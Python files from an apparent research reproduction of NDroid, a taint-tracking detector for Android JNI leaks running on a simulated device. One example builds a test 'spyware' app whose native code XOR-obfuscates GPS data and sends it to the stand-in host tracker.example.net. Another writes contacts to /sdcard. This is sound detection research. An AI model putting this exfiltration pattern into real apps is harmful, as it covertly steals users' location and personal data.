#!/usr/bin/env python3
"""Reproduce the Section VI app study: 8 phone/SMS/contacts apps.

Drives each of the eight market apps with Monkey-style random input under
TaintDroid+NDroid and prints the per-app observations — which apps
deliver sensitive data to native code, and which actually leak it.

Expected headline (matching the paper): 3 of 8 deliver contact/SMS data
to native code; exactly 1 (the ePhone analogue) sends it out.

Run:  python examples/market_sweep.py [events]
"""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

from repro.apps.market import run_market_study
from repro.common.taint import describe_taint


def main():
    events = int(sys.argv[1]) if len(sys.argv) > 1 else 12
    print(f"driving 8 apps with {events} Monkey events each "
          "(TaintDroid + NDroid attached)...\n")
    observations = run_market_study(seed=7, events=events)

    print(f"{'package':<26} {'delivers->native':<18} {'leaks':<7} "
          f"{'taint':<16} coverage")
    print("-" * 80)
    for o in observations:
        taint = describe_taint(o.delivered_taint) if o.delivered_taint \
            else "-"
        print(f"{o.package:<26} {str(o.delivered_to_native):<18} "
              f"{str(o.leaked):<7} {taint:<16} {o.monkey_coverage:.0%}")

    delivering = sum(o.delivered_to_native for o in observations)
    leaking = [o for o in observations if o.leaked]
    print()
    print(f"{delivering} of 8 apps delivered contact/SMS data to native "
          "code (paper: 3)")
    print(f"{len(leaking)} app(s) sent it out through a native sink "
          "(paper: 1 — ePhone)")
    for o in leaking:
        print(f"  -> {o.package} leaked to {', '.join(o.leak_destinations)}")


if __name__ == "__main__":
    main()
