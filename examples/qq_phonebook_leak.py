#!/usr/bin/env python3
"""Reproduce Fig. 6: the QQPhoneBook v3.5 information flow, with the log.

The Java code passes an SMS+contacts blob (taint 0x202) as ``args[3]`` of
the native ``makeLoginRequestPackageMd5``; the native code formats it into
a login URL; a second call, ``getPostUrl``, wraps that buffer with
``NewStringUTF`` and hands it back to Java, which posts it to
``info.3g.qq.com``.  NDroid's log — like the paper's figure — shows the
taint entering the native context, landing in the taint map, and being
re-attached to the new String object.

Run:  python examples/qq_phonebook_leak.py
"""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

from repro.apps import qqphonebook
from repro.apps.base import run_scenario
from repro.common.taint import describe_taint
from repro.core import NDroid
from repro.framework import AndroidPlatform


def main():
    platform = AndroidPlatform()
    NDroid.attach(platform)
    scenario = qqphonebook.build()
    run_scenario(scenario, platform)

    print("=" * 70)
    print("QQPhoneBook v3.5 (Fig. 6) under TaintDroid + NDroid")
    print("=" * 70)

    print("\nInformation-flow log (NDroid + JNI events):")
    interesting = ("jni", "ndroid.hook", "ndroid.taint", "ndroid.sink",
                   "taintdroid")
    for event in platform.event_log:
        if event.source in interesting or event.source.startswith("ndroid"):
            print(" ", event.format())

    print("\nWhat went over the wire to info.3g.qq.com:")
    for transmission in platform.kernel.network.transmissions_to(
            "info.3g.qq.com"):
        print(f"  {transmission.payload.decode(errors='replace')!r}")
        print(f"  carrying taint "
              f"{describe_taint(transmission.taint_union)} "
              f"(0x{transmission.taint_union:x})")

    print("\nDetected leaks:")
    print(platform.leaks.summary())

    record = platform.leaks.records[0]
    assert record.taint & 0x202, "expected the paper's 0x202 label"
    print("\nOK: the 0x202 (SMS|CONTACTS) flow of Fig. 6 is reproduced.")


if __name__ == "__main__":
    main()
