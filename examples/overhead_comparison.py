#!/usr/bin/env python3
"""Reproduce Fig. 10: CF-Bench slowdown under each analysis system.

Runs the CF-Bench workload suite on four configurations of the simulated
device — vanilla, TaintDroid, TaintDroid+NDroid, and the DroidScope-style
comparator — and prints per-workload slowdowns against vanilla.

The paper's shape to look for: NDroid's cost concentrates on native
workloads while Java workloads stay near TaintDroid's, and the
DroidScope comparator's overall slowdown clearly exceeds NDroid's
(5.45x vs >=11x in the paper; ratios here are compressed because the
substrate is a Python emulator rather than TCG-translated code).

Run:  python examples/overhead_comparison.py [iterations]
"""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

from repro.bench import OverheadHarness


def main():
    iterations = int(sys.argv[1]) if len(sys.argv) > 1 else 300
    print(f"running CF-Bench ({iterations} iterations/workload, "
          f"4 configurations)...")
    harness = OverheadHarness(iterations=iterations, repeats=2)
    tables = harness.compare_all()

    print()
    for table in tables.values():
        print(table.format())
        print()

    ndroid = tables["ndroid"]
    droidscope = tables["droidscope"]
    print("paper-shape checks:")
    print(f"  NDroid native ({ndroid.native_score:.2f}x) > "
          f"NDroid java ({ndroid.java_score:.2f}x): "
          f"{ndroid.native_score > ndroid.java_score}")
    print(f"  DroidScope overall ({droidscope.overall:.2f}x) > "
          f"NDroid overall ({ndroid.overall:.2f}x): "
          f"{droidscope.overall > ndroid.overall}")


if __name__ == "__main__":
    main()
