#!/usr/bin/env python3
"""Reproduce the Section III study and Fig. 2.

Generates the calibrated synthetic corpus (227,911 apps at full scale;
pass a scale factor for a quicker run) and runs the Type I/II/III static
analysis, printing the same statistics the paper reports plus an ASCII
rendering of Fig. 2's category distribution.

Run:  python examples/corpus_study.py [scale]
      python examples/corpus_study.py 0.1     # 10% corpus, ~2 s
"""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

from repro.corpus import CorpusGenerator, analyze_corpus


def main():
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 1.0
    print(f"generating corpus at scale {scale} "
          f"(~{int(227911 * scale):,} apps)...")
    records = CorpusGenerator(seed=2014, scale=scale).generate()
    print("running the static-analysis pipeline...")
    report = analyze_corpus(records)

    print()
    print("=" * 60)
    print("Section III — apps using JNI")
    print("=" * 60)
    print(report.format_summary())

    print()
    print("=" * 60)
    print("Fig. 2 — category distribution of Type I apps")
    print("=" * 60)
    for name, share in sorted(report.type1_category_shares.items(),
                              key=lambda kv: -kv[1]):
        bar = "#" * max(1, round(share * 100))
        print(f"  {name:<20s} {100 * share:5.1f}% {bar}")


if __name__ == "__main__":
    main()
