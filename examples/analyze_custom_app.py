#!/usr/bin/env python3
"""Author and analyze your own app with the public API.

Shows the full workflow a downstream user follows to test an app against
NDroid: write Dalvik bytecode with :class:`MethodBuilder`, write the
native half in ARM assembly (calling JNI through the env table and libc
through its symbols), bundle both into an :class:`Apk`, and run it on an
instrumented platform.

The example app is a little spyware: it reads the GPS location, passes it
to native code, which XOR-"encrypts" it byte by byte (pure ARM
arithmetic — only the instruction tracer can follow this) and sends the
ciphertext out.

Run:  python examples/analyze_custom_app.py
"""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

from repro.core import NDroid
from repro.dalvik import ClassDef, MethodBuilder
from repro.framework import AndroidPlatform, Apk
from repro.jni import jni_offset


def build_app() -> Apk:
    cls = ClassDef("Lcom/example/Spy;")
    cls.add_method(MethodBuilder(cls.name, "beam", "VL", static=True,
                                 native=True).build())

    main = MethodBuilder(cls.name, "main", "V", static=True, registers=3)
    main.const_string(0, "libspy.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.invoke_static(
        "Landroid/location/LocationManager;->getLastKnownLocation")
    main.move_result_object(1)
    main.invoke_static(f"{cls.name}->beam", 1)
    main.ret_void()
    cls.add_method(main.build())

    native = f"""
    Java_com_example_Spy_beam:        ; (env, jclass, jstring location)
        push {{r4, r5, r6, r7, lr}}
        mov r4, r0
        ; chars = GetStringUTFChars(env, location, NULL)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0
        ; n = strlen(chars)
        ldr ip, =strlen
        blx ip
        mov r7, r0
        ; XOR-encrypt in place: the flow survives pure arithmetic
        mov r2, #0
    xor_loop:
        cmp r2, r7
        bge xor_done
        ldrb r3, [r5, r2]
        eor r3, r3, #0x5A
        strb r3, [r5, r2]
        add r2, r2, #1
        b xor_loop
    xor_done:
        ; fd = socket(2, 1); connect; send(fd, chars, n, 0)
        mov r0, #2
        mov r1, #1
        ldr ip, =socket
        blx ip
        mov r6, r0
        ldr r1, =dest
        ldr ip, =connect
        blx ip
        mov r0, r6
        mov r1, r5
        mov r2, r7
        mov r3, #0
        ldr ip, =send
        blx ip
        pop {{r4, r5, r6, r7, pc}}
    dest:
        .asciz "tracker.example.net:9090"
    """
    return Apk(package="com.example.spy", classes=[cls],
               native_libraries={"libspy.so": native},
               load_library_calls=["libspy.so"])


def main():
    platform = AndroidPlatform()
    NDroid.attach(platform)
    apk = build_app()
    platform.install(apk)
    platform.run_app(apk)

    print("what reached tracker.example.net:")
    for transmission in platform.kernel.network.transmissions_to(
            "tracker.example.net"):
        print(f"  ciphertext: {transmission.payload!r}")
    print("\ndetected leaks:")
    print(platform.leaks.summary())
    assert platform.leaks.records, "NDroid should flag the encrypted leak"
    print("\nOK: the taint survived the native XOR loop — the instruction "
          "tracer followed it.")


if __name__ == "__main__":
    main()
