#!/usr/bin/env python3
"""Quickstart: detect a JNI information leak that TaintDroid misses.

Builds a simulated Android device, installs the paper's case-2 PoC (an
app whose native code writes the user's contacts to ``/sdcard/CONTACTS``
through ``fopen``/``fprintf``), and runs it twice: once under TaintDroid
alone, once with NDroid attached.

Run:  python examples/quickstart.py
"""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

from repro.apps import poc_case2
from repro.apps.base import run_scenario
from repro.core import NDroid
from repro.framework import AndroidPlatform
from repro.taintdroid import TaintDroid


def run_under(attach):
    platform = AndroidPlatform()
    attach(platform)
    scenario = poc_case2.build()
    run_scenario(scenario, platform)
    return platform


def main():
    print("=" * 64)
    print("Scenario: the paper's PoC of case 2 (Fig. 8)")
    print("  Java reads contact id/name/email (tainted 0x2),")
    print("  native code writes them to /sdcard/CONTACTS via fprintf.")
    print("=" * 64)

    print("\n--- TaintDroid alone " + "-" * 42)
    taintdroid_platform = run_under(TaintDroid.attach)
    content = taintdroid_platform.kernel.filesystem.read_text(
        "/sdcard/CONTACTS")
    print(f"data written to /sdcard/CONTACTS: {content!r}")
    print(f"leaks detected: {len(taintdroid_platform.leaks)}")
    print("  -> the leak happened, but the native sink is invisible to "
          "TaintDroid")

    print("\n--- TaintDroid + NDroid " + "-" * 39)
    ndroid_platform = run_under(NDroid.attach)
    print(f"leaks detected: {len(ndroid_platform.leaks)}")
    for record in ndroid_platform.leaks.records:
        print(f"  {record.describe()}")

    print("\n--- NDroid engine statistics " + "-" * 34)
    for key, value in ndroid_platform.ndroid.statistics().items():
        print(f"  {key:<24s} {value}")

    assert len(taintdroid_platform.leaks) == 0
    assert len(ndroid_platform.leaks) > 0
    print("\nOK: NDroid caught the flow TaintDroid missed.")


if __name__ == "__main__":
    main()
