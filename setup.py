"""Legacy setup shim.

The offline environment lacks the ``wheel`` package, so PEP 660 editable
installs fail; with this shim present, ``pip install -e . --no-build-isolation``
falls back to the classic ``setup.py develop`` path.
"""

from setuptools import setup

setup()
