"""Shared leak registry: what each analysis system detected.

Both TaintDroid (Java-context sinks) and NDroid (native-context sinks,
Table VII's starred calls) report here, so the Table I detection matrix is
a direct query over the records.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.common.taint import TaintLabel, describe_taint


@dataclass
class LeakRecord:
    """One detected information leak."""

    detector: str            # "taintdroid" or "ndroid"
    sink: str                # e.g. "send", "fprintf", "HttpClient.post"
    taint: TaintLabel
    destination: str = ""    # host/path the data went to
    payload: bytes = b""
    context: str = ""        # "java" or "native"

    def describe(self) -> str:
        return (f"[{self.detector}] {self.sink} -> {self.destination or '?'} "
                f"taint={describe_taint(self.taint)} "
                f"({len(self.payload)} bytes)")


class LeakRegistry:
    """Append-only store with per-detector queries."""

    def __init__(self) -> None:
        self.records: List[LeakRecord] = []

    def report(self, record: LeakRecord) -> LeakRecord:
        self.records.append(record)
        return record

    def by_detector(self, detector: str) -> List[LeakRecord]:
        return [r for r in self.records if r.detector == detector]

    def detected_by(self, detector: str,
                    taint: Optional[TaintLabel] = None) -> bool:
        for record in self.by_detector(detector):
            if taint is None or (record.taint & taint):
                return True
        return False

    def clear(self) -> None:
        self.records.clear()

    def __len__(self) -> int:
        return len(self.records)

    def summary(self) -> str:
        if not self.records:
            return "(no leaks detected)"
        return "\n".join(record.describe() for record in self.records)
