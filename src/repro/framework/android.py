"""The assembled device: :class:`AndroidPlatform`.

One platform = one emulated phone: CPU/emulator, kernel, libc/libm, the
Dalvik VM, the JNI layer, framework APIs, a device profile, and the leak
registry.  Analysis systems (TaintDroid, NDroid, the DroidScope
comparator) attach to a platform after construction.

Typical use::

    platform = AndroidPlatform()
    TaintDroid.attach(platform)           # baseline
    NDroid.attach(platform)               # the paper's system
    platform.install(apk)
    platform.run_app(apk)
    print(platform.leaks.summary())
"""

from __future__ import annotations

import dataclasses
from typing import Dict, List, Optional, Tuple

from repro.common.errors import DalvikError
from repro.common.events import EventLog
from repro.cpu.assembler import Program, assemble
from repro.dalvik.heap import Slot
from repro.dalvik.vm import DalvikVM
from repro.emulator.emulator import Emulator
from repro.framework.apk import Apk
from repro.framework.api import FrameworkApi
from repro.framework.device import DeviceProfile
from repro.framework.leaks import LeakRegistry
from repro.jni.layer import JNI_CHARS_BASE, JNI_CHARS_SIZE, JniLayer
from repro.kernel.filesystem import RegularFile
from repro.kernel.kernel import Kernel
from repro.libc.libc import CLibrary, LIBC_HEAP_BASE, LIBC_HEAP_SIZE
from repro.libc.libm import MathLibrary
from repro.memory.allocator import FreeListAllocator
from repro.memory.memory import Memory
from repro.observability import Observability

NATIVE_STACK_TOP = 0x0800_0000
NATIVE_STACK_SIZE = 0x0010_0000
APP_LIBRARY_BASE = 0x6000_0000
APP_LIBRARY_STRIDE = 0x0010_0000


class AndroidPlatform:
    """A complete simulated Android device."""

    def __init__(self, device: Optional[DeviceProfile] = None,
                 use_tb: bool = True, observe: bool = True) -> None:
        self.event_log = EventLog()
        self.memory = Memory()
        self.emu = Emulator(memory=self.memory, event_log=self.event_log,
                            use_tb=use_tb)
        self.kernel = Kernel(self.memory, event_log=self.event_log)
        self.kernel.spawn_process("system_server")
        self.app_process = self.kernel.spawn_process("app_process")
        self.kernel.set_current(self.app_process)
        # The app process shares the emulator's memory map so both the
        # loader and the kernel's task structs describe the same mappings.
        self.app_process.memory_map = self.emu.memory_map
        self.emu.syscall_handler = self.kernel.handle_svc

        self.libc = CLibrary(self.emu, self.kernel)
        self.libm = MathLibrary(self.emu)
        self.vm = DalvikVM(self.memory, event_log=self.event_log)
        if use_tb:
            # The managed side follows the native TB engine's switch: the
            # same flag selects trace-compiled Dalvik blocks, keeping the
            # use_tb=False platform a byte-identical single-step oracle.
            self.vm.enable_trace_compiler()
        self.jni = JniLayer(self.emu, self.vm)
        self.device = device if device is not None else DeviceProfile.default()
        self.leaks = LeakRegistry()

        # Analysis systems attach here.
        self.taintdroid = None
        self.ndroid = None
        self.droidscope = None

        self.api = FrameworkApi(self)
        self.api.register_all()
        self.libc.dlopen_handler = self._dlopen
        self.libc.dlsym_handler = self._dlsym

        self.emu.cpu.sp = NATIVE_STACK_TOP
        self.emu.memory_map.map(NATIVE_STACK_TOP - NATIVE_STACK_SIZE,
                                NATIVE_STACK_SIZE, "[stack]", perms="rw-")
        from repro.dalvik.stack import DVM_STACK_BASE, DVM_STACK_SIZE
        self.emu.memory_map.map(DVM_STACK_BASE - DVM_STACK_SIZE,
                                DVM_STACK_SIZE, "[dalvik stack]", perms="rw-")
        self.kernel.sync_tasks_to_guest()

        # Observability facade (metrics sources are pull-only; the
        # ledger/profiler stay off until enable_tracing()).
        self.observability = Observability() if observe else None
        if self.observability is not None:
            self.observability.wire(self)

        self._installed: Dict[str, Apk] = {}
        self._loaded_libraries: Dict[str, Program] = {}
        self._library_handles: List[str] = []
        self._next_library_base = APP_LIBRARY_BASE
        # The VM starts with taint slots maintained but no policy consumer;
        # the vanilla configuration disables the bookkeeping entirely.
        self.vm.taint_tracking = False

        # Warm-worker machinery: the cross-job translation persistence
        # (emulator/persist.py, injected via attach_persistence), libraries
        # kept mapped + translated across jobs, and the boot-state snapshot
        # reset_for_job() restores (captured by prepare_template()).
        self.persistence = None
        self._resident_libraries: Dict[str, Tuple[Program, int, str]] = {}
        self._template: Optional[Dict] = None

    # -- app management -------------------------------------------------------------

    def install(self, apk: Apk) -> None:
        """Register the app's classes (its dex) with the VM."""
        if apk.package in self._installed:
            raise DalvikError(f"{apk.package} already installed")
        for class_def in apk.classes:
            self.vm.register_class(class_def)
        self._installed[apk.package] = apk
        self.event_log.emit("framework", "install", apk.package,
                            package=apk.package,
                            libraries=sorted(apk.native_libraries))

    def run_app(self, apk: Apk, args: Optional[List[Slot]] = None) -> Slot:
        """Invoke the app's ``main``; libraries load via System.loadLibrary."""
        return self.vm.call_main(apk.main_symbol(), args or [])

    # -- native library loading --------------------------------------------------------

    def load_library(self, name: str) -> Program:
        """System.loadLibrary: assemble, map (third-party) and bind.

        In a warm worker a library loaded by a previous job stays
        *resident*: mapped, decoded, translated.  When the same name
        resolves to the same source, the load skips assembly, mapping and
        cache invalidation entirely and only re-binds methods and replays
        the observable events; a different source evicts the stale
        resident first (the content digests can never alias regardless —
        this is a latency matter, not a correctness one).
        """
        if name in self._loaded_libraries:
            return self._loaded_libraries[name]
        source = None
        for apk in self._installed.values():
            if name in apk.native_libraries:
                source = apk.native_libraries[name]
                break
        if source is None:
            raise DalvikError(f"UnsatisfiedLinkError: no library {name!r}")
        resident = self._resident_libraries.get(name)
        if resident is not None:
            program, base, resident_source = resident
            if resident_source == source:
                return self._finish_load(name, program, base)
            self._evict_resident(name)
        base = self._next_library_base
        self._next_library_base += APP_LIBRARY_STRIDE
        externs = dict(self.libc.symbols)
        externs.update(self.libm.symbols)
        program = assemble(source, base=base, externs=externs)
        self.emu.load(base, program.code)
        # load() dropped every cached translation, including entries
        # seeded for other resident libraries — re-seed them, then
        # announce (and seed) the new region.
        self.emu.reseed_code_regions()
        self.emu.register_code_region(base, bytes(program.code))
        size = max((len(program.code) + 0xFFF) & ~0xFFF, 0x1000)
        self.emu.memory_map.map(base, size, name, perms="r-x",
                                third_party=True)
        self.kernel.sync_tasks_to_guest()
        self._resident_libraries[name] = (program, base, source)
        return self._finish_load(name, program, base)

    def _finish_load(self, name: str, program: Program, base: int) -> Program:
        """The source-independent tail of a load: bind, announce, OnLoad."""
        self._loaded_libraries[name] = program
        self._library_handles.append(name)
        self._bind_native_methods(program)
        self.event_log.emit("framework", "loadLibrary",
                            f"{name} @0x{base:08x}", name=name, base=base,
                            size=len(program.code))
        # Run JNI_OnLoad if the library exports one (libraries that bind
        # their methods via RegisterNatives do it here).  The first
        # argument is the env pointer; the real ABI passes JavaVM*, whose
        # only use in practice is GetEnv — this shortcut preserves the
        # observable behaviour.
        if "JNI_OnLoad" in program.symbols:
            self.emu.call(program.entry("JNI_OnLoad"),
                          args=(self.jni.env_pointer(), 0))
            self.event_log.emit("framework", "JNI_OnLoad", name, name=name)
        return program

    def _evict_resident(self, name: str) -> None:
        """Unmap a resident library whose source no longer matches."""
        program, base, _ = self._resident_libraries.pop(name)
        size = max((len(program.code) + 0xFFF) & ~0xFFF, 0x1000)
        for page in range(base >> 12, ((base + size - 1) >> 12) + 1):
            self.emu.invalidate_page(page)
        self.emu.drop_code_region(base)
        self.emu.memory_map.unmap(base)
        self.kernel.sync_tasks_to_guest()

    def _resident_pages(self) -> set:
        pages = set()
        for program, base, _ in self._resident_libraries.values():
            size = max((len(program.code) + 0xFFF) & ~0xFFF, 0x1000)
            pages.update(range(base >> 12, ((base + size - 1) >> 12) + 1))
        return pages

    def _bind_native_methods(self, program: Program) -> None:
        """Bind ``Java_pkg_Class_method`` symbols to native methods."""
        for class_def in self.vm.classes.values():
            for method in class_def.methods.values():
                if method.is_native and method.native_address == 0:
                    symbol = method.jni_symbol()
                    if symbol in program.symbols:
                        method.native_address = program.entry(symbol)

    def _dlopen(self, path: str) -> int:
        name = path.rsplit("/", 1)[-1]
        try:
            self.load_library(name)
        except DalvikError:
            return 0
        try:
            return self._library_handles.index(name) + 1
        except ValueError:
            return 0

    def _dlsym(self, handle: int, symbol: str) -> int:
        index = handle - 1
        if not 0 <= index < len(self._library_handles):
            return 0
        program = self._loaded_libraries[self._library_handles[index]]
        if symbol not in program.symbols:
            return 0
        return program.entry(symbol)

    # -- warm workers: persistence + template/reset contract ---------------------------

    def attach_persistence(self, persistence) -> None:
        """Inject the cross-job translation cache into all three layers."""
        self.persistence = persistence
        self.emu.persistence = persistence
        if self.vm.tbc is not None:
            self.vm.tbc.persistence = persistence
        self.jni.persistence = persistence

    def persist_translations(self) -> Dict[str, int]:
        """Record this job's translation artifacts and flush them to disk."""
        if self.persistence is None:
            return {}
        self.emu.persist_code_regions()
        if self.vm.tbc is not None:
            self.vm.tbc.persist_blocks()
        return self.persistence.flush()

    def prepare_template(self) -> None:
        """Snapshot the booted state ``reset_for_job()`` restores.

        Call once, after boot and detector attachment but before the
        first job touches the platform.  The snapshot is pure Python
        data (page bytes, class tables, fd tables, allocator cursors) —
        cheap to hold, and inherited copy-on-write across ``fork``.
        """
        memory = self.memory
        vm = self.vm
        kernel = self.kernel
        self._template = {
            "pages": {index: bytes(page)
                      for index, page in memory._pages.items()},
            "tracers": list(self.emu._tracers),
            "branch_listeners": list(self.emu._branch_listeners),
            "classes": dict(vm.classes),
            "statics": {
                name: ({field: list(value)
                        for field, value in class_def.static_values.items()},
                       dict(class_def.static_ref_flags))
                for name, class_def in vm.classes.items()},
            "dvm_sp": vm.stack._stack_pointer,
            "jni_tables": (len(self.jni._methods), len(self.jni._classes),
                           len(self.jni._fields)),
            "files": {path: (bytes(file.data), list(file.taints))
                      for path, file in kernel.filesystem._files.items()},
            "directories": set(kernel.filesystem._directories),
            "responses": {host: list(queue) for host, queue
                          in kernel.network._responses.items()},
            "processes": {
                pid: {"name": process.name,
                      "fds": {fd: dataclasses.replace(descriptor)
                              for fd, descriptor in process.fds.items()},
                      "next_fd": process._next_fd}
                for pid, process in kernel.processes.items()},
            "current_pid": kernel.current.pid,
            "next_pid": kernel._next_pid,
            "alloc_next": kernel._kernel_allocator._next,
            "events_enabled": self.event_log.enabled,
        }

    def reset_for_job(self) -> None:
        """Return a used (possibly forked) platform to its booted state.

        Everything a job can dirty is restored from the template; the
        things worth keeping warm — the decode/TB caches, Dalvik blocks'
        region scopes, resident library mappings, the tracers' region
        and handler caches — survive.  Engines are mutated in place,
        never replaced: observability sources and hook closures hold
        their identities.
        """
        if self._template is None:
            raise DalvikError("prepare_template() was never called")
        template = self._template
        emu = self.emu
        vm = self.vm
        kernel = self.kernel

        # 1. Shed per-job instrumentation (supervisor tracers, injectors).
        for tracer in list(emu._tracers):
            if tracer not in template["tracers"]:
                emu.remove_tracer(tracer)
        emu.fault_injector = None
        kernel.syscall_fault_hook = None
        emu._branch_listeners[:] = list(template["branch_listeners"])

        # 2. Memory: drop pages the job created (resident library code
        # excepted), rewrite boot pages the job changed.  Writing through
        # write_bytes lets the write-watch invalidate stale translations
        # exactly as self-modifying code would.
        boot_pages = template["pages"]
        resident_pages = self._resident_pages()
        for index in list(memory_pages := self.memory._pages):
            if index not in boot_pages and index not in resident_pages:
                emu.invalidate_page(index)
                memory_pages.pop(index, None)
        for index, data in boot_pages.items():
            live = memory_pages.get(index)
            if live is None or bytes(live) != data:
                self.memory.write_bytes(index << 12, data)
        for name, (program, base, _) in self._resident_libraries.items():
            code = bytes(program.code)
            if self.memory.read_bytes(base, len(code)) != code:
                self.memory.write_bytes(base, code)   # undo job SMC

        # 3. Dalvik VM.
        vm.classes.clear()
        vm.classes.update(template["classes"])
        for name, (values, flags) in template["statics"].items():
            class_def = vm.classes.get(name)
            if class_def is None:
                continue
            class_def.static_values.clear()
            class_def.static_values.update(
                {field: list(value) for field, value in values.items()})
            class_def.static_ref_flags.clear()
            class_def.static_ref_flags.update(flags)
        vm._interned.clear()
        vm.interp_save_state = Slot()
        vm.caught_exception = None
        vm.interpreter.instructions_executed = 0
        vm._root_frame_slots = []
        heap = vm.heap
        heap._objects.clear()
        heap._class_ids.clear()
        heap._active = 0
        heap._bump = heap._spaces[0]
        heap.gc_count = 0
        vm.stack.frames.clear()
        vm.stack._stack_pointer = template["dvm_sp"]
        for table in vm.irt._tables.values():
            table.clear()
        vm.irt._serial = 0
        if vm.tbc is not None:
            vm.tbc.flush()
            vm.tbc.reset_counters()

        # 4. Emulator: counters and control state.  The decode cache and
        # translation blocks are exactly what stays warm.
        emu.instruction_count = 0
        emu.host_call_count = 0
        emu.decode_count = 0
        emu.translate_seconds = 0.0
        emu._pending_exits.clear()
        emu._call_depth = 0
        emu._stop_requested = False
        emu._tb_cache.reset_counters()
        cpu = emu.cpu
        cpu.regs[:] = [0] * len(cpu.regs)
        cpu.flag_n = cpu.flag_z = cpu.flag_c = cpu.flag_v = False
        cpu.thumb = False
        cpu.sp = NATIVE_STACK_TOP

        # 5. JNI layer: per-job tables and pending state; trampolines are
        # keyed by Method objects that die with the job's classes.
        jni = self.jni
        jni._trampolines.clear()
        jni.pending_exception = None
        jni.pending_interpret = None
        jni.current_native_call = None
        jni.trampoline_hits = 0
        jni.trampoline_misses = 0
        jni.trampoline_invalidations = 0
        jni.crossings_fast = 0
        jni.crossings_slow = 0
        if jni.crossing_histogram is not None:
            jni.crossing_histogram.clear()
        jni.chars_heap = FreeListAllocator(JNI_CHARS_BASE, JNI_CHARS_SIZE)
        methods_len, classes_len, fields_len = template["jni_tables"]
        del jni._methods[methods_len:]
        del jni._classes[classes_len:]
        del jni._fields[fields_len:]

        # 6. libc: fresh native heap, no open FILE objects.
        self.libc.heap = FreeListAllocator(LIBC_HEAP_BASE, LIBC_HEAP_SIZE)
        self.libc._file_objects.clear()

        # 7. Kernel: filesystem, network, process table, counters.
        filesystem = kernel.filesystem
        filesystem._files = {
            path: RegularFile(data=bytearray(data), taints=list(taints))
            for path, (data, taints) in template["files"].items()}
        filesystem._directories = set(template["directories"])
        network = kernel.network
        network._sockets.clear()
        network.transmissions.clear()
        network._responses = {host: list(queue) for host, queue
                              in template["responses"].items()}
        for pid in [pid for pid in kernel.processes
                    if pid not in template["processes"]]:
            del kernel.processes[pid]
        for pid, saved in template["processes"].items():
            process = kernel.processes.get(pid)
            if process is None:
                continue
            process.fds = {}
            for fd, descriptor in saved["fds"].items():
                restored = dataclasses.replace(descriptor)
                if restored.path is not None:
                    restored.file = filesystem._files.get(restored.path)
                process.fds[fd] = restored
            process._next_fd = saved["next_fd"]
        kernel._next_pid = template["next_pid"]
        kernel.set_current(kernel.processes[template["current_pid"]])
        kernel.syscall_count = 0
        kernel.syscalls_by_name.clear()
        kernel._kernel_allocator._next = template["alloc_next"]
        kernel.sync_tasks_to_guest()

        # 8. Platform-level job state.
        self.event_log.clear()
        self.event_log.enabled = template["events_enabled"]
        self.leaks.clear()
        self._installed.clear()
        self._loaded_libraries.clear()
        self._library_handles.clear()
        # _next_library_base stays monotonic: resident bases must never
        # be reissued to a different library.

        # 9. Re-register the write-watch and syscall callbacks on *this*
        # process's objects — a forked child must invalidate its own
        # caches on self-modifying code, never the template's.
        self.memory.set_write_watcher(emu._on_code_page_write)
        emu.syscall_handler = kernel.handle_svc

        # 10. Attached detectors.
        ndroid = self.ndroid
        if ndroid is not None:
            ndroid.taint_engine.reset()
            ndroid.taint_engine.rearm_fast_path()
            ndroid.degraded_events = 0
            ndroid.quarantined_hooks.clear()
            ndroid.hook_invocations.clear()
            tracer = ndroid.instruction_tracer
            tracer.traced_instructions = 0
            tracer.cache_hits = 0
            ndroid.multilevel.checks = 0
            ndroid.multilevel.fires = 0
            ndroid.multilevel._armed.clear()
            for chain in ndroid.multilevel._chains:
                chain.reset()
            ndroid.view_reconstructor.invalidate()
            ndroid.view_reconstructor.reconstruct()
            ndroid.view_reconstructor.reconstructions = 0
            ndroid.syslib_hooks.modelled_calls = 0
            ndroid.syslib_hooks.sink_checks = 0
            ndroid.dvm_hooks.tainted_deliveries.clear()
        droidscope = self.droidscope
        if droidscope is not None:
            droidscope.taint_engine.reset()
            droidscope.taint_engine.rearm_fast_path()
            droidscope.tracer.traced_instructions = 0
            droidscope.tracer.cache_hits = 0
            droidscope.dalvik_reconstructions = 0
            droidscope.library_walk_bytes = 0
            droidscope.context_lookups = 0

    # -- measurement helpers -----------------------------------------------------------

    def work_counters(self) -> Dict[str, int]:
        return {
            "native_instructions": self.emu.instruction_count,
            "dalvik_instructions": self.vm.dalvik_instructions,
            "host_calls": self.emu.host_call_count,
            "syscalls": self.kernel.syscall_count,
            "gc_count": self.vm.heap.gc_count,
        }
