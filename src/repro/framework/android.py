"""The assembled device: :class:`AndroidPlatform`.

One platform = one emulated phone: CPU/emulator, kernel, libc/libm, the
Dalvik VM, the JNI layer, framework APIs, a device profile, and the leak
registry.  Analysis systems (TaintDroid, NDroid, the DroidScope
comparator) attach to a platform after construction.

Typical use::

    platform = AndroidPlatform()
    TaintDroid.attach(platform)           # baseline
    NDroid.attach(platform)               # the paper's system
    platform.install(apk)
    platform.run_app(apk)
    print(platform.leaks.summary())
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.common.errors import DalvikError
from repro.common.events import EventLog
from repro.cpu.assembler import Program, assemble
from repro.dalvik.heap import Slot
from repro.dalvik.vm import DalvikVM
from repro.emulator.emulator import Emulator
from repro.framework.apk import Apk
from repro.framework.api import FrameworkApi
from repro.framework.device import DeviceProfile
from repro.framework.leaks import LeakRegistry
from repro.jni.layer import JniLayer
from repro.kernel.kernel import Kernel
from repro.libc.libc import CLibrary
from repro.libc.libm import MathLibrary
from repro.memory.memory import Memory
from repro.observability import Observability

NATIVE_STACK_TOP = 0x0800_0000
NATIVE_STACK_SIZE = 0x0010_0000
APP_LIBRARY_BASE = 0x6000_0000
